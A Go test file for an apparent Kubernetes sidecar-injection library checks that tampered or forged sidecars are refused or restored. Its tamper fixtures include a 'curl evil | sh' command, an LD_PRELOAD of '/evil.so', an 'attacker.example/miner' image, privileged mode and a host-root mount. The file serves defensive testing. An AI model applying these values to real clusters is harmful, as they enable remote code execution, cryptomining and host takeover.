package sidecar_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	corev1 "k8s.io/api/core/v1"

	"github.com/sidecarkit/sidecarkit/compat"
	"github.com/sidecarkit/sidecarkit/patch"
	"github.com/sidecarkit/sidecarkit/sidecar"
)

// A Pod cannot choose its sidecar: whatever the Pod says about itself
// (the record annotation, names), what ends up under the sidecar's names
// is the Spec's, or the Pod is refused. Each case starts from a Pod that
// was genuinely injected, then plays the Pod's author (or a stale copy).

// injected returns pod name injected with spec "full" in mode, as raw
// JSON, and its record annotation.
func injected(t *testing.T, name string, mode sidecar.Mode) ([]byte, string) {
	t.Helper()
	raw, _, _ := injectRaw(t, pod(t, name), loadSpec(t, "full"), sidecar.Options{Mode: mode}, capabilities["native"])
	obj := decode(t, raw)
	return raw, obj.Meta.Annotations[sidecar.Annotation("proxy")]
}

// sidecarPath is the JSON pointer of the sidecar in a Pod injected in mode
// (placed first in its list).
func sidecarPath(mode sidecar.Mode) string {
	if mode == sidecar.Legacy {
		return "/spec/containers/0"
	}
	return "/spec/initContainers/0"
}

func op(o, path, value string) patch.Op {
	r := patch.Op{Op: o, Path: path}
	if value != "" {
		r.Value = json.RawMessage(value)
	}
	return r
}

// recordOp replaces the record annotation with rec.
func recordOp(t *testing.T, rec string) patch.Op {
	v, err := json.Marshal(rec)
	if err != nil {
		t.Fatal(err)
	}
	return op("replace", "/metadata/annotations/sidecar.sidecarkit.io~1proxy", string(v))
}

// wantSidecar checks that raw's sidecar is the "full" Spec's container in
// mode, and that injecting again changes nothing.
func wantSidecar(t *testing.T, raw []byte, mode sidecar.Mode) {
	t.Helper()
	obj := decode(t, raw)
	want := loadSpec(t, "full").Container
	l := obj.Spec.InitContainers
	if mode == sidecar.Legacy {
		l = obj.Spec.Containers
	} else {
		always := corev1.ContainerRestartPolicyAlways
		want.RestartPolicy = &always
	}
	var got *corev1.Container
	for i := range l {
		if l[i].Name == "proxy" {
			got = &l[i]
		}
	}
	if got == nil {
		t.Fatalf("no sidecar in %s", raw)
	}
	if diff := cmp.Diff(&want, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("sidecar is not the Spec's (-spec +got):\n%s", diff)
	}
	res, err := sidecar.Inject(obj.Meta, obj.Spec, loadSpec(t, "full"), capabilities["native"], sidecar.Options{Mode: mode})
	if err != nil {
		t.Fatalf("Inject again: %v", err)
	}
	if !res.Mutation.Empty() || res.Skipped != sidecar.SkipAlreadyInjected {
		ops, _ := res.Mutation.JSONPatch(obj.Root)
		t.Errorf("Inject again is not empty: skipped %q, ops %s", res.Skipped, mustJSON(t, ops))
	}
}

func hasWarning(res sidecar.Result, sub string) bool {
	for _, w := range res.Warnings {
		if strings.Contains(text(w), sub) {
			return true
		}
	}
	return false
}

func TestForgedRecordRestoresTheSidecar(t *testing.T) {
	for _, mode := range []sidecar.Mode{sidecar.Native, sidecar.Legacy} {
		sc := sidecarPath(mode)
		cases := []struct {
			name string
			// tamper plays the Pod's author on a genuinely injected Pod.
			tamper func(t *testing.T, raw []byte, rec string) patch.Ops
			// warn is a part of the warning the restore must carry.
			warn string
		}{
			{"image", func(t *testing.T, _ []byte, _ string) patch.Ops {
				return patch.Ops{op("replace", sc+"/image", `"attacker.example/miner:1"`)}
			}, "(image) and was restored"},
			{"privileged", func(t *testing.T, _ []byte, _ string) patch.Ops {
				return patch.Ops{op("add", sc+"/securityContext", `{"privileged":true}`)}
			}, "(securityContext) and was restored"},
			{"host root mount", func(t *testing.T, _ []byte, _ string) patch.Ops {
				return patch.Ops{
					op("add", "/spec/volumes/-", `{"name":"host","hostPath":{"path":"/"}}`),
					op("add", sc+"/volumeMounts/-", `{"name":"host","mountPath":"/host"}`),
				}
			}, "(volumeMounts) and was restored"},
			{"command and env", func(t *testing.T, _ []byte, _ string) patch.Ops {
				return patch.Ops{
					op("add", sc+"/command", `["/bin/sh","-c","curl evil | sh"]`),
					op("add", sc+"/env", `[{"name":"LD_PRELOAD","value":"/evil.so"}]`),
				}
			}, "(command, env) and was restored"},
			{"exec probe", func(t *testing.T, _ []byte, _ string) patch.Ops {
				return patch.Ops{op("add", sc+"/livenessProbe", `{"exec":{"command":["/bin/evil"]}}`)}
			}, "(livenessProbe) and was restored"},
			{"copied record with wrong digest", func(t *testing.T, _ []byte, rec string) patch.Ops {
				var r sidecar.Record
				if err := json.Unmarshal([]byte(rec), &r); err != nil {
					t.Fatal(err)
				}
				for n := range r.InitContainers {
					r.InitContainers[n] = "0000000000000000"
				}
				for n := range r.Containers {
					r.Containers[n] = "0000000000000000"
				}
				b, _ := json.Marshal(r)
				return patch.Ops{recordOp(t, string(b)), op("replace", sc+"/image", `"attacker.example/miner:1"`)}
			}, "(image) and was restored"},
		}
		for _, tc := range cases {
			t.Run(string(mode)+"/"+tc.name, func(t *testing.T) {
				raw, rec := injected(t, "no-init", mode)
				forged := apply(t, raw, tc.tamper(t, raw, rec))
				fixed, ops, res := injectRaw(t, forged, loadSpec(t, "full"), sidecar.Options{Mode: mode}, capabilities["native"])
				if res.Skipped != "" || len(ops) == 0 {
					t.Fatalf("the forged Pod was waved through: skipped %q, %d ops", res.Skipped, len(ops))
				}
				if !hasWarning(res, tc.warn) {
					t.Errorf("warnings %q lack %q", res.Warnings, tc.warn)
				}
				for _, o := range ops {
					if o.Path == sc {
						t.Errorf("the sidecar was replaced whole (%s %s); want field-level edits", o.Op, o.Path)
					}
				}
				wantSidecar(t, fixed, mode)
				checkUnknownKept(t, forged, fixed)
			})
		}
	}
}

// A record whose sidecar is gone gets the sidecar back.
func TestRecordWithoutSidecar(t *testing.T) {
	for _, mode := range []sidecar.Mode{sidecar.Native, sidecar.Legacy} {
		raw, _ := injected(t, "several-init", mode)
		stripped := apply(t, raw, patch.Ops{op("remove", sidecarPath(mode), "")})
		fixed, _, res := injectRaw(t, stripped, loadSpec(t, "full"), sidecar.Options{Mode: mode}, capabilities["native"])
		if res.Skipped != "" {
			t.Fatalf("%s: skipped %q: %s", mode, res.Skipped, res.Reason)
		}
		wantSidecar(t, fixed, mode)
	}
}

// A record is refused when it claims containers that no injection of the
// sidecar could have added, or is not a record of this version.
func TestRecordRefused(t *testing.T) {
	cases := []struct {
		name, record, want string
	}{
		{"names an app container", `{"v":2,"mode":"native","initContainers":{"proxy":"x"},"containers":{"app":"x"}}`, `names container "app", which no injection of sidecar "proxy" adds`},
		{"another sidecar's record", `{"v":2,"mode":"native","initContainers":{"istio-proxy":"x"}}`, `names container "istio-proxy"`},
		{"a prefix that is not a suffix", `{"v":2,"mode":"legacy","containers":{"proxyfoo":"x"}}`, `names container "proxyfoo"`},
		{"both lists", `{"v":2,"mode":"native","initContainers":{"proxy":"x"},"containers":{"proxy":"x"}}`, `in both lists`},
		{"old version", `{"v":1,"mode":"native","hash":"h","initContainers":["proxy"]}`, `record version 1 is not supported`},
		{"unknown mode", `{"v":2,"mode":"auto"}`, `unknown mode "auto"`},
		{"not JSON", `{"v":2,` + strings.Repeat("x", 4096), `not a sidecarkit record`},
		{"case-insensitive keys", `{"V":2,"MODE":"native"}`, `record version 0`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			raw, _ := injected(t, "no-init", sidecar.Native)
			forged := apply(t, raw, patch.Ops{recordOp(t, tc.record)})
			obj := decode(t, forged)
			_, err := sidecar.Inject(obj.Meta, obj.Spec, loadSpec(t, "full"), capabilities["native"], sidecar.Options{Mode: sidecar.Native})
			if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "metadata.annotations[sidecar.sidecarkit.io/proxy]") {
				t.Errorf("Inject: err = %v; want %q at the annotation", err, tc.want)
			}
			if err != nil && len(err.Error()) > 600 {
				t.Errorf("the error echoes %d bytes of the record: %.200s...", len(err.Error()), err)
			}
			if _, err := sidecar.Uninject(obj.Meta, obj.Spec, "proxy"); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("Uninject: err = %v; want %q", err, tc.want)
			}
		})
	}
}

// A record that claims volumes, mounts and env the Pod's author wrote
// (with digests that do not match) makes neither Inject nor Uninject
// remove them.
func TestForgedRecordRemovesNothingUnverified(t *testing.T) {
	raw, rec := injected(t, "no-init", sidecar.Native)
	var r sidecar.Record
	if err := json.Unmarshal([]byte(rec), &r); err != nil {
		t.Fatal(err)
	}
	// The author's volume "data" (mounted by app at /data) and env MODE
	// claimed with wrong digests; an unused author volume "spare" claimed
	// with a wrong digest too.
	r.Volumes["data"] = "0000000000000000"
	r.Volumes["spare"] = "0000000000000000"
	r.AppMounts["/data"] = "0000000000000000"
	r.AppEnv["MODE"] = "0000000000000000"
	b, _ := json.Marshal(r)
	forged := apply(t, raw, patch.Ops{
		recordOp(t, string(b)),
		op("add", "/spec/volumes/-", `{"name":"spare","emptyDir":{}}`),
	})
	obj := decode(t, forged)
	res, err := sidecar.Inject(obj.Meta, obj.Spec, loadSpec(t, "full"), capabilities["native"], sidecar.Options{Mode: sidecar.Native})
	if err != nil {
		t.Fatal(err)
	}
	ops, _ := res.Mutation.JSONPatch(obj.Root)
	for _, o := range ops {
		if o.Op == "remove" || o.Op == "replace" && !strings.HasPrefix(o.Path, "/metadata/annotations") {
			t.Errorf("Inject with a forged record: %s %s", o.Op, o.Path)
		}
	}
	if !hasWarning(res, `volume "spare" is left in place`) {
		t.Errorf("warnings %q do not say the unverified volume stays", res.Warnings)
	}
	m, err := sidecar.Uninject(obj.Meta, obj.Spec, "proxy")
	if err != nil {
		t.Fatal(err)
	}
	uops, _ := m.JSONPatch(obj.Root)
	back := decode(t, apply(t, forged, uops))
	if volumeNames(back.Spec.Volumes) != "data,spare" {
		t.Errorf("volumes after Uninject = %s; want the author's data and spare", volumeNames(back.Spec.Volumes))
	}
	app := back.Spec.Containers[0]
	if !hasMount(app.VolumeMounts, "/data") || !hasEnv(app.Env, "MODE") {
		t.Errorf("Uninject removed the author's mount or env: %+v", app)
	}
	if hasMount(app.VolumeMounts, "/var/run/proxy") || hasEnv(app.Env, "PROXY_SOCKET") || len(back.Spec.InitContainers) != 0 {
		t.Errorf("Uninject left what it verified as its own: %+v", back.Spec)
	}
}

func volumeNames(l []corev1.Volume) string {
	var n []string
	for _, v := range l {
		n = append(n, v.Name)
	}
	return strings.Join(n, ",")
}

// Uninject refuses to remove a container of the sidecar's names that the
// record does not verify; with a verified record it removes exactly the
// injection, even after the author set the same env var themselves.
func TestUninjectVerifiesContent(t *testing.T) {
	for _, mode := range []sidecar.Mode{sidecar.Native, sidecar.Legacy} {
		raw, _ := injected(t, "no-init", mode)
		forged := apply(t, raw, patch.Ops{op("replace", sidecarPath(mode)+"/image", `"attacker.example/x:1"`)})
		obj := decode(t, forged)
		if _, err := sidecar.Uninject(obj.Meta, obj.Spec, "proxy"); err == nil || !strings.Contains(err.Error(), "refusing to remove it") || !strings.Contains(err.Error(), sidecarPath(mode)[1:5]) {
			t.Errorf("%s: Uninject of an altered sidecar: err = %v", mode, err)
		}
		// The author changed the injected env's value: it is theirs now.
		changed := apply(t, raw, patch.Ops{op("replace", appEnvPath(t, raw, "PROXY_SOCKET")+"/value", `"mine"`)})
		obj = decode(t, changed)
		m, err := sidecar.Uninject(obj.Meta, obj.Spec, "proxy")
		if err != nil {
			t.Fatalf("%s: %v", mode, err)
		}
		ops, _ := m.JSONPatch(obj.Root)
		back := decode(t, apply(t, changed, ops))
		app := back.Spec.Containers[0]
		if !hasEnv(app.Env, "PROXY_SOCKET") || hasMount(app.VolumeMounts, "/var/run/proxy") {
			t.Errorf("%s: after Uninject, app = %+v; want the author's PROXY_SOCKET kept and the injected mount gone", mode, app)
		}
	}
}

// appEnvPath returns the pointer of the env var named name of the first
// application container (the one after a legacy sidecar, if any).
func appEnvPath(t *testing.T, raw []byte, name string) string {
	obj := decode(t, raw)
	for i, c := range obj.Spec.Containers {
		if c.Name == "proxy" {
			continue
		}
		for j, e := range c.Env {
			if e.Name == name {
				return "/spec/containers/" + itoa(i) + "/env/" + itoa(j)
			}
		}
	}
	t.Fatalf("no env %s", name)
	return ""
}

func itoa(i int) string { b, _ := json.Marshal(i); return string(b) }

// A container of the sidecar's name without a record is the author's:
// Inject refuses it, even when the author copied the Spec exactly.
func TestNoRecordIsForeign(t *testing.T) {
	raw, _ := injected(t, "no-init", sidecar.Native)
	bare := apply(t, raw, patch.Ops{op("remove", "/metadata/annotations/sidecar.sidecarkit.io~1proxy", "")})
	obj := decode(t, bare)
	_, err := sidecar.Inject(obj.Meta, obj.Spec, loadSpec(t, "full"), capabilities["native"], sidecar.Options{Mode: sidecar.Native})
	if err == nil || !strings.Contains(err.Error(), `spec.initContainers[0].name: Forbidden: "proxy" is a container sidecarkit did not inject`) {
		t.Errorf("err = %v", err)
	}
}

// serverDefaults plays the API server on a Pod injected in mode: the
// defaults it stores for the sidecar, the ServiceAccount plugin's token
// volume and mounts (on every container), and LimitRanger's default CPU
// limit on the sidecar (a resource the Spec leaves unset).
func serverDefaults(t *testing.T, raw []byte, mode sidecar.Mode) []byte {
	t.Helper()
	sc := sidecarPath(mode)
	obj := decode(t, raw)
	ops := patch.Ops{
		op("add", sc+"/imagePullPolicy", `"IfNotPresent"`),
		op("add", sc+"/terminationMessagePath", `"/dev/termination-log"`),
		op("add", sc+"/terminationMessagePolicy", `"File"`),
		op("add", sc+"/resources/limits/cpu", `"500m"`),
		op("add", sc+"/resources/requests/memory", `"64Mi"`),
		op("add", "/spec/volumes/-", `{"name":"kube-api-access-x7k2p","projected":{"defaultMode":420,"sources":[{"serviceAccountToken":{"expirationSeconds":3607,"path":"token"}}]}}`),
	}
	mount := `{"name":"kube-api-access-x7k2p","readOnly":true,"mountPath":"/var/run/secrets/kubernetes.io/serviceaccount"}`
	for _, l := range []struct {
		name string
		cs   []corev1.Container
	}{{"initContainers", obj.Spec.InitContainers}, {"containers", obj.Spec.Containers}} {
		for i, c := range l.cs {
			p := "/spec/" + l.name + "/" + itoa(i) + "/volumeMounts"
			if len(c.VolumeMounts) == 0 {
				ops = append(ops, op("add", p, "["+mount+"]"))
			} else {
				ops = append(ops, op("add", p+"/-", mount))
			}
		}
	}
	return apply(t, raw, ops)
}

// What the API server and its plugins add to the sidecar is not a
// difference: a stored Pod is recognised as injected, and an update of the
// Spec keeps the defaults and the plugins' additions.
func TestServerDefaultsAreNotDifferences(t *testing.T) {
	for _, mode := range []sidecar.Mode{sidecar.Native, sidecar.Legacy} {
		raw, _ := injected(t, "several-init", mode)
		stored := serverDefaults(t, raw, mode)
		obj := decode(t, stored)
		res, err := sidecar.Inject(obj.Meta, obj.Spec, loadSpec(t, "full"), capabilities["native"], sidecar.Options{Mode: mode})
		if err != nil {
			t.Fatal(err)
		}
		if !res.Mutation.Empty() {
			ops, _ := res.Mutation.JSONPatch(obj.Root)
			t.Errorf("%s: the stored Pod is not recognised: %s", mode, mustJSON(t, ops))
		}
		// A new version of the Spec.
		v2 := loadSpec(t, "full")
		v2.Container.Image = "registry.example/proxy:3"
		updated, ops, res := injectRaw(t, stored, v2, sidecar.Options{Mode: mode}, capabilities["native"])
		if len(res.Warnings) > 0 {
			t.Errorf("%s: an update of our own sidecar warns: %q", mode, res.Warnings)
		}
		for _, o := range ops {
			if o.Op == "remove" {
				t.Errorf("%s: the update removes %s", mode, o.Path)
			}
		}
		u := decode(t, updated)
		c := u.Spec.InitContainers[0]
		if mode == sidecar.Legacy {
			c = u.Spec.Containers[0]
		}
		if c.Image != "registry.example/proxy:3" || c.ImagePullPolicy != corev1.PullIfNotPresent || c.TerminationMessagePath == "" ||
			!hasMount(c.VolumeMounts, "/var/run/secrets/kubernetes.io/serviceaccount") {
			t.Errorf("%s: updated sidecar lost a default or the token mount: %+v", mode, c)
		}
		if _, ok := c.Resources.Limits[corev1.ResourceCPU]; !ok {
			t.Errorf("%s: the update dropped LimitRanger's CPU limit, which the Spec leaves unset: %v", mode, c.Resources)
		}
	}
}

// An update to an image tagged latest moves the defaulted pull policy with
// it, as the API server would default it (no remove op).
func TestUpdatePullPolicyFollowsImage(t *testing.T) {
	raw, _ := injected(t, "no-init", sidecar.Native)
	stored := serverDefaults(t, raw, sidecar.Native)
	v2 := loadSpec(t, "full")
	v2.Container.Image = "registry.example/proxy"
	updated, ops, _ := injectRaw(t, stored, v2, sidecar.Options{Mode: sidecar.Native}, capabilities["native"])
	if c := decode(t, updated).Spec.InitContainers[0]; c.ImagePullPolicy != corev1.PullAlways {
		t.Errorf("pull policy = %q after the update to an untagged image; want Always (ops %s)", c.ImagePullPolicy, mustJSON(t, ops))
	}
}

// Inject stops when its context ends.
func TestInjectHonoursContext(t *testing.T) {
	in, err := sidecar.NewInjector(loadSpec(t, "full"))
	if err != nil {
		t.Fatal(err)
	}
	obj := decode(t, pod(t, "several-init"))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := in.Inject(ctx, obj.Meta, obj.Spec, capabilities["native"], sidecar.Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("Inject with an ended context: err = %v; want context.Canceled", err)
	}
}

// A field the compiled API types do not know, on the sidecar, is invisible
// to a typed comparison and would survive a field-by-field restore:
// InjectObject, which sees the raw document, replaces such a sidecar whole.
func TestUnknownFieldOnTheSidecar(t *testing.T) {
	in, err := sidecar.NewInjector(loadSpec(t, "full"))
	if err != nil {
		t.Fatal(err)
	}
	for _, mode := range []sidecar.Mode{sidecar.Native, sidecar.Legacy} {
		raw, _ := injected(t, "several-init", mode)
		forged := apply(t, raw, patch.Ops{op("add", sidecarPath(mode)+"/appArmorProfileFromTheFuture", `{"type":"Unconfined"}`)})
		obj := decode(t, forged)
		// The typed view cannot tell: Inject finds nothing to do.
		if res, err := in.Inject(context.Background(), obj.Meta, obj.Spec, capabilities["native"], sidecar.Options{Mode: mode}); err != nil || !res.Mutation.Empty() {
			t.Fatalf("%s: typed Inject: %v, empty %v", mode, err, res.Mutation.Empty())
		}
		res, err := in.InjectObject(context.Background(), obj, capabilities["native"], sidecar.Options{Mode: mode})
		if err != nil {
			t.Fatal(err)
		}
		if !hasWarning(res, ".appArmorProfileFromTheFuture") || !hasWarning(res, "was replaced") {
			t.Errorf("%s: warnings %q", mode, res.Warnings)
		}
		ops, _ := res.Mutation.JSONPatch(obj.Root)
		fixed := apply(t, forged, ops)
		if strings.Contains(string(fixed), "appArmorProfileFromTheFuture") {
			t.Errorf("%s: the unknown field survived: ops %s", mode, mustJSON(t, ops))
		}
		wantSidecar(t, fixed, mode)
		after := decode(t, fixed)
		if got, want := names(after.Spec.InitContainers), names(obj.Spec.InitContainers); !cmp.Equal(got, want) {
			t.Errorf("%s: init containers %v, want %v (the sidecar keeps its place)", mode, got, want)
		}
	}
}

// text is a warning as admission sends it: "path: message", or the message
// when it has no path. Every warning is of severity Warning and has a code.
func text(w compat.Finding) string {
	if w.Severity != compat.SeverityWarning || w.Code == "" {
		return fmt.Sprintf("malformed warning %+v", w)
	}
	if w.Path == "" {
		return w.Message
	}
	return w.Path + ": " + w.Message
}
